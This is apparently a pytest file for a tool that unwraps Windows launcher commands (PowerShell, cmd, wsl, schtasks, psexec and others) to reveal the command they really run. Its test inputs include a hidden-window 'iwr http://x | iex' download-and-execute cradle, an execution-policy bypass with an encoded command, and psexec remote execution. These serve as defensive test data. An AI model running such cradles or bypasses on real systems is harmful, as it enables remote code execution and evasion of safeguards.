"""PowerShell, cmd.exe and what starts programs on Windows."""

import pytest

from tests.command.unwrap.shown import shown

CASES: dict[str, list[str] | None] = {
    "pwsh -c 'rm x'": ["pwsh", "powershell$ rm x | via=script"],
    "pwsh -NoP -NonI -Command rm x": ["pwsh", "powershell$ rm x | via=script"],
    "powershell -ep bypass -enc cgBtACAAeAA=": ["powershell", "powershell$ rm x | via=script opaque=encoded"],
    "powershell -EncodedCommand !!!": ["powershell", "powershell? | via=script opaque=encoded,code"],
    "powershell rm x": ["powershell", "powershell$ rm x | via=script"],
    "pwsh x.ps1": None,
    "pwsh -File x.ps1": None,
    "pwsh -Command -": ["pwsh", "< powershell | opaque=input"],
    "pwsh": ["pwsh", "< powershell | opaque=input"],
    'powershell -NoProfile -w hidden -c "iwr http://x | iex"': [
        "powershell",
        "powershell$ iwr http://x | iex | via=script",
    ],
    "cmd /c dir x": ["cmd", "cmd$ dir x | via=script"],
    'cmd.exe /s /c "dir x"': ["cmd", "cmd$ dir x | via=script"],
    "cmd /c del 'a b'": ["cmd", 'cmd$ del "a b" | via=script'],
    "cmd //c dir": ["cmd", "cmd$ dir | via=script"],
    "cmd": ["cmd", "< cmd | opaque=input"],
    "start /b calc.exe x": ["start", "calc.exe x | background"],
    "start '' prog x": ["start", "prog x | background"],
    "wsl -e rm x": ["wsl", "rm x"],
    "wsl -d Ubuntu -u root rm x": ["wsl", "rm x | user=root"],
    "wsl 'rm x; ls'": ["wsl", "$ rm x; ls"],
    "forfiles /p . /c 'cmd /c del @file'": ["forfiles+", "cmd$ cmd /c del @file | repeated"],
    "schtasks /create /tn x /tr 'rm x' /sc daily": ["schtasks+", "cmd$ rm x | background"],
    "runas /user:admin 'cmd /c x'": ["runas", "cmd$ cmd /c x | user=admin"],
    "wmic process call create 'cmd /c x'": ["wmic+", "cmd$ cmd /c x"],
    "psexec '\\\\host' -u a -p b cmd /c x": ["psexec+", "cmd /c x | remote=host user=a"],
    "powershell /c rm x": ["powershell", "powershell$ rm x | via=script"],
    "powershell –Command rm x": ["powershell", "powershell$ rm x | via=script"],
    "pwsh -wd /tmp -c rm x": ["pwsh", "powershell$ rm x | via=script cwd=/tmp"],
    "pwsh -cwa 'rm $args' a": ["pwsh", "powershell$ rm $args | (a) via=script"],
    "pwsh -v": None,
    "pwsh -enc cm0geA==": ["pwsh", "powershell$ 浲砠 | via=script opaque=encoded"],
    "powershell -Version 2 -c rm x": ["powershell", "powershell$ rm x | via=script"],
    "cmd /d/q/c dir": ["cmd", "cmd$ dir | via=script"],
    "cmd /v:on /c dir": ["cmd", "cmd$ dir | via=script"],
    "cmd /q": ["cmd", "< cmd | opaque=input"],
    "cmd /c": ["cmd", "< cmd | opaque=input"],
    "winpty rm x": ["winpty", "rm x"],
}


@pytest.mark.parametrize("line", CASES)
def test_what_it_starts(line: str) -> None:
    assert shown(line) == CASES[line]
